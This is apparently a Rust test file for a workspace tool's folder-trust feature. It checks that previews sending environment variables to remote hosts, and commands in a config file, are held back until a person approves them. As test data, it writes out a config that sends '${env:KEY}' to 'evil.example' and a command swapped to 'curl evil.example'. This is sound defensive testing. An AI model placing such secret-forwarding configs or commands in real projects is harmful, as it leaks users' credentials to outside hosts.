use std::fs;

use tripledash_core::workspace::{Access, Severity, Upstream, parse};
use tripledash_core::{Snapshot, Timestamp};

use super::answering::Answering;
use super::sources::{GIT, repository};
use super::{FILE, Running, until};
use crate::gather::once::{Asked, gathered};
use crate::trust::TrustedFolders;
use crate::workbench::{ServeError, TrustError};
use crate::{List, OriginKind, SourceStatus, WorkspaceState, held_back};

const SENDS: &str = r#"{ "name": "w", "tenants": [{ "id": "a" }], "previews": [
  { "name": "far", "upstream": "https://a.example", "headers": { "k": "${env:KEY} ${env:ID}" } },
  { "name": "farther", "upstream": "https://a.example", "host": "${env:WHO}.a.example" },
  { "name": "other", "upstream": "https://{tenant}.b.example/", "headers": { "k": "${env:KEY}" } },
  { "name": "somewhere", "upstream": "http://${env:WHO}:3000" },
  { "name": "plain", "upstream": "https://c.example", "headers": { "k": "v" } },
  { "name": "near", "upstream": "http://localhost:${env:PORT}", "headers": { "k": "${env:KEY}" } },
  { "name": "nearer", "upstream": "http://{tenant}.localhost:3000", "headers": { "k": "${env:KEY}" } },
  { "name": "alike", "upstream": "http://127.0.0.${env:WHO}" }
] }"#;

fn held(state: &WorkspaceState) -> Vec<&str> {
    let held = state
        .previews
        .iter()
        .filter(|preview| preview.untrusted.is_some());
    held.map(|preview| preview.name.as_str()).collect()
}

fn reason<'s>(snapshot: &'s Snapshot, name: &str) -> &'s str {
    match &snapshot.workspace.previews[name].upstream {
        Upstream::Absent(absence) => &absence.reason,
        Upstream::At(template) => panic!("{name} leads to {template}"),
    }
}

#[tokio::test]
async fn previews_that_send_the_environment_away_wait_for_trust() {
    let running = Running::new();
    let folder = running.folder("w", SENDS);
    fs::write(
        folder.join(".env.local"),
        "KEY=k\nID=i\nWHO=here\nPORT=3000\n",
    )
    .unwrap();
    running.workbench.open(&folder).unwrap();
    let state = running.state();
    let waiting = ["far", "farther", "other", "somewhere", "alike"];
    assert_eq!(held(&state), waiting);
    for preview in &state.previews {
        assert!(preview.missing_variables.is_empty(), "{preview:?}");
        assert_eq!(
            preview.upstream.is_none(),
            waiting.contains(&preview.name.as_str())
        );
    }
    let snapshot = running.workbench.snapshot().borrow().clone();
    assert_eq!(
        reason(&snapshot, "far"),
        "the preview far sends ID, KEY to https://a.example, and this folder is not trusted with that"
    );
    let commands = state.trust.unwrap().commands;
    let lines: Vec<_> = commands
        .iter()
        .map(|command| command.line.as_str())
        .collect();
    assert_eq!(
        lines,
        [
            "sends WHO to http://${env:WHO}:3000",
            "sends WHO to http://127.0.0.${env:WHO}",
            "sends ID, KEY, WHO to https://a.example",
            "sends KEY to https://{tenant}.b.example",
        ]
    );

    running.workbench.trust(true, &commands).unwrap();
    assert_eq!(held(&running.state()), [""; 0]);
    assert!(running.state().previews[0].upstream.is_some());

    // The same to another host is another thing.
    let mut states = running.workbench.state();
    let elsewhere = SENDS.replace(
        "https://c.example\", \"headers\": { \"k\": \"v\"",
        "https://evil.example\", \"headers\": { \"k\": \"${env:KEY}\"",
    );
    fs::write(folder.join("tripledash.json"), elsewhere).unwrap();
    until(&mut states, |now| held(now).contains(&"plain")).await;
    running.finish().await;
}

#[tokio::test]
async fn what_was_made_here_asks_nobody() {
    let running = Running::new();
    running.workbench.start_from("https://a.example").unwrap();
    let headers = serde_json::json!({ "k": "${env:PATH}" });
    let fields = [
        ("name".to_owned(), serde_json::json!("b")),
        (
            "upstream".to_owned(),
            serde_json::json!("https://b.example"),
        ),
        ("headers".to_owned(), headers),
    ];
    running.workbench.add(List::Previews, &fields).unwrap();
    assert_eq!(held(&running.state()), [""; 0]);
    running.finish().await;
}

#[tokio::test]
async fn a_command_that_ends_has_them_held_back_too() {
    let running = Running::new();
    let folder = running.folder("shop", FILE);
    let data = running.home.path().join("data");
    let parsed = parse(FILE, "tripledash.json");
    let whole = parsed.workspace.clone().unwrap();
    let (served, problems) = held_back(&parsed, whole.clone(), &folder, &data);
    let production = &served.previews["production"];
    assert!(matches!(production.upstream, Upstream::Absent(_)));
    assert_eq!(production.access, Access::ReadOnly);
    let [problem] = problems.as_slice() else {
        panic!("{problems:?}");
    };
    assert_eq!(problem.line, 9);
    let sends = "sends BYPASS to https://shop.example, and this folder is not trusted with that";
    assert!(problem.message.ends_with(sends), "{problem}");

    let folders = TrustedFolders::load(&data);
    let trust = folders.of(&folder, &whole).unwrap();
    folders.set(&folder, &trust.commands, true).unwrap();
    let (served, problems) = held_back(&parsed, whole.clone(), &folder, &data);
    assert_eq!((served, problems), (whole, Vec::new()));
    running.finish().await;
}

/// A folder that is trusted by one engine is trusted no more where another says so.
#[tokio::test]
async fn what_another_engine_takes_back_is_seen() {
    let running = Running::new();
    let folder = running.folder("shop", FILE);
    running.workbench.open(&folder).unwrap();
    let commands = running.state().trust.unwrap().commands;
    running.workbench.trust(true, &commands).unwrap();
    let mut states = running.workbench.state();
    let trusted = |state: &WorkspaceState| state.trust.as_ref().unwrap().trusted;
    until(&mut states, trusted).await;
    let other = TrustedFolders::load(&running.home.path().join("data"));
    other.set(&folder, &commands, false).unwrap();
    until(&mut states, |now| !trusted(now)).await;
    running.finish().await;
}

/// Nobody has trusted anything here before.
#[tokio::test]
async fn what_another_engine_trusts_first_is_seen() {
    let running = Running::new();
    let folder = running.folder("shop", FILE);
    running.workbench.open(&folder).unwrap();
    let mut states = running.workbench.state();
    let trust = running.state().trust.unwrap();
    assert!(!trust.trusted);
    let other = TrustedFolders::load(&running.home.path().join("data"));
    other.set(&folder, &trust.commands, true).unwrap();
    until(&mut states, |now| now.trust.as_ref().unwrap().trusted).await;
    running.finish().await;
}

#[tokio::test]
async fn nothing_of_the_environment_is_sent_before_a_person_has_seen_what() {
    let running = Running::with(|start| {
        let key = ("KEY".to_owned(), "s3cret".to_owned());
        start.environment.extend([key]);
    });
    let endpoint = Answering::start(|_| (200, "[]".to_owned())).await;
    let url = endpoint.url("/tenants?k=${env:KEY}");
    let text = format!(r#"{{ "name": "shop", "tenants": {{ "url": "{url}" }} }}"#);
    let folder = running.folder("shop", &text);
    running.workbench.open(&folder).unwrap();
    let list = running.state().tenant_list;
    assert_eq!(list.status, SourceStatus::Untrusted);
    let message = list.message.unwrap();
    let sends = format!("sends KEY to {}", endpoint.url(""));
    assert!(message.contains(&sends), "{message}");

    // Nor by a command that asks once: it warns, and goes on.
    let parsed = parse(&text, "tripledash.json");
    let asked = Asked {
        workspace: parsed.workspace.as_ref().unwrap(),
        folder: &folder,
        environment: &[("KEY".to_owned(), "s3cret".to_owned())].into(),
        data_dir: &running.home.path().join("data"),
        clock: || Timestamp(0),
    };
    let (_, problems) = gathered(asked, &parsed).await;
    let [problem] = problems.as_slice() else {
        panic!("{problems:?}");
    };
    assert_eq!(problem.severity, Severity::Warning);
    assert!(problem.message.contains(&message), "{problem}");
    assert!(endpoint.asked().is_empty());

    // A person has seen it.
    let commands = running.state().trust.unwrap().commands;
    assert_eq!(commands[0].line, sends);
    let mut states = running.workbench.state();
    running.workbench.trust(true, &commands).unwrap();
    until(&mut states, |now| {
        now.tenant_list.status == SourceStatus::Good
    })
    .await;
    assert!(endpoint.asked()[0].starts_with("GET /tenants?k=s3cret "));
    running.finish().await;
}

#[tokio::test]
async fn nothing_runs_before_a_person_has_seen_what() {
    let running = Running::new();
    let folder = repository(&running, GIT);
    let mut states = running.workbench.state();
    running.workbench.open(&folder).unwrap();
    until(&mut states, |now| now.previews.len() == 2).await;
    let refused = running.workbench.start_server("main");
    let Err(ServeError::Untrusted { commands, .. }) = refused else {
        panic!("{refused:?}");
    };
    assert_eq!(commands[0].line, "serve --port {port}");
    let mut other = commands.clone();
    other[0].folder = Some("..".to_owned());
    let others = running.workbench.trust(true, &other);
    assert!(matches!(others, Err(TrustError::Changed)));
    running.workbench.trust(true, &commands).unwrap();
    assert!(running.state().trust.unwrap().trusted);

    // The file says something else by now.
    let changed = GIT.replace("serve --port", "curl evil.example");
    fs::write(folder.join("tripledash.json"), changed).unwrap();
    until(&mut states, |now| {
        now.trust.as_ref().is_some_and(|trust| !trust.trusted)
    })
    .await;
    let refused = running.workbench.start_server("main");
    assert!(matches!(refused, Err(ServeError::Untrusted { .. })));
    let unknown = running.workbench.start_server("nobody");
    assert!(matches!(unknown, Err(ServeError::NoPreview { .. })));
    running.finish().await;
}

#[tokio::test]
async fn what_was_made_here_is_not_held_back_once_it_is_saved() {
    let sends = r#"{ "name": "far", "upstream": "https://shop.example", "headers": { "x-key": "${env:KEY}" } }"#;
    for (more, waits) in [("", false), (r#", { "git": ".", "dev": "vite" }"#, true)] {
        let running = Running::new();
        let drafts = running.home.path().join("data/drafts");
        fs::create_dir_all(drafts.join("w")).unwrap();
        let file = format!(r#"{{ "name": "w", "previews": [{sends}{more}] }}"#);
        fs::write(drafts.join("w/tripledash.json"), &file).unwrap();
        let draft = drafts.join("w").canonicalize().unwrap();
        running.workbench.open(&draft).unwrap();
        assert_eq!(running.state().previews[0].untrusted, None);

        let folder = running.home.path().join("mine");
        fs::create_dir(&folder).unwrap();
        running.workbench.save(&folder).unwrap();
        let state = running.state();
        assert_eq!(state.origin.kind, OriginKind::Folder);
        assert_eq!(state.previews[0].untrusted.is_some(), waits, "{more}");
        // From another's hand the same file waits.
        let other = running.folder("other", &file);
        running.workbench.open(&other).unwrap();
        assert!(running.state().previews[0].untrusted.is_some());
        running.finish().await;
    }
}
